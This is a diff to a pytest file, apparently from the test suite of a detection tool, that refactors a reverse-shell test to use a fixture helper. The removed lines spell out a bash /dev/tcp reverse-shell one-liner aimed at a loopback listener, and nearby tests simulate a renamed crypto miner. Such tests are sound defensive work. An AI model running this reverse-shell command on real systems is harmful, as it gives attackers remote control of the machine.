@@ -16,7 +16,7 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import require_root
-from tests.fixtures.network import listener, sshd, wait_until, write_fake_miner
+from tests.fixtures.network import dev_tcp_shell, listener, sshd, wait_until, write_fake_miner
 
 WALLET = "4" + "8" * 94
 
@@ -96,11 +96,7 @@ def test_renamed_miner_talking_stratum_to_a_pool(tmp_path: Path) -> None:
 
 def test_reverse_shell_to_a_listener() -> None:
     with listener("127.0.6.6", 4444) as attacker:
-        shell = subprocess.Popen(
-            ["bash", "-c", "bash -i >& /dev/tcp/127.0.6.6/4444 0>&1"],
-            stderr=subprocess.DEVNULL,
-            start_new_session=True,
-        )
+        shell = dev_tcp_shell("127.0.6.6", 4444)
         try:
             wait_until(lambda: attacker.accepted)
             time.sleep(0.2)
